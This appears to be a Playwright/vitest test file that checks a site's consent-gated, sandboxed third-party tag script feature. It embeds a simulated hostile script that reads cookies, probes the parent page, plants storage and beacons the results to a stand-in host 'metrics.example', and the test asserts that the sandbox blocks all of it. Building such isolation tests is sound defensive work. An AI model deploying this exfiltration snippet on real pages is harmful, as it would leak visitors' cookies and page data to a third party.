import { expect, test } from 'vitest'
import { phrase } from '#app/testing/phrase.ts'
import { findSeriousViolations } from '#test/harness/axe.ts'
import { withSite } from '#test/harness/with-site.ts'

const stage = withSite({ cast: false })

/**
 * Tries everything that a hostile script would try, and reports what succeeded to a listed host.
 */
const script = `(async () => {
  const report = (facts) => { new Image().src = 'https://metrics.example/hit.png?' + new URLSearchParams(facts) }
  addEventListener('securitypolicyviolation', ({ blockedURI }) => report({ blocked: blockedURI }))
  new Image().src = 'https://unlisted.example/pixel.png'
  let page = 'hidden'
  try { page = parent.document.title } catch {}
  const cookies = document.cookie
  document.cookie = 'planted=1; path=/'
  localStorage.setItem('planted', '1')
  const api = await fetch('/api/user.php').then(() => 'answered', () => 'refused')
  report({ origin, page, cookies, own: document.cookie, api, from: document.referrer })
})()`

test('SITE-08 a script is requested only after Allow, shares nothing with the site and reaches no unlisted host', async () => {
  await stage.site().server.product.sites.changeSettings(1, {
    tag_scripts: ['https://tags.example/tag.js'],
    tag_hosts: ['metrics.example'],
  })
  const page = await stage.visitor({ width: 320, height: 640 })
  const requested: string[] = []
  await page.route(/^https:\/\//, (route) => {
    requested.push(route.request().url())
    return route.fulfill(
      route.request().url().endsWith('.js')
        ? { contentType: 'text/javascript', body: script }
        : { status: 204 },
    )
  })
  const url = `${stage.site().url}/landers/gallery/summer?click=7`
  await page.goto(url)
  const question = page.getByRole('region', { name: phrase('tag_scripts.label') })
  const [asked, start] = await Promise.all([
    question.boundingBox(),
    page.locator('main a[href="/signup"]').boundingBox(),
  ])
  // It covers nothing on the smallest phone.
  expect((asked?.y ?? 0) + (asked?.height ?? 0)).toBeLessThanOrEqual(start?.y ?? 0)
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(320)
  expect(await findSeriousViolations(page)).toEqual([])
  expect(requested).toEqual([])

  await question.getByRole('button', { name: phrase('tag_scripts.allow') }).click()
  const reports = () =>
    requested
      .filter((each) => each.startsWith('https://metrics.example/hit.png?'))
      .map((each) => Object.fromEntries(new URL(each).searchParams))
  await expect.poll(reports).toContainEqual({
    origin: 'null',
    page: 'hidden',
    cookies: '',
    own: 'planted=1',
    api: 'refused',
    from: url,
  })
  await expect
    .poll(reports)
    .toContainEqual({ blocked: expect.stringContaining('https://unlisted.example') })
  expect(requested.filter((each) => each.startsWith('https://unlisted'))).toEqual([])
  const cookies = await page.context().cookies()
  expect(cookies.map(({ name }) => name)).not.toContain('planted')
  expect(await page.evaluate(() => localStorage.getItem('planted'))).toBeNull()

  const before = requested.length
  await page.getByRole('button', { name: phrase('tag_scripts.withdraw') }).click()
  await page.getByRole('button', { name: phrase('tag_scripts.allow') }).waitFor()
  expect(await page.locator('iframe').count()).toBe(0)
  expect(requested).toHaveLength(before)
  await page.unrouteAll()
})
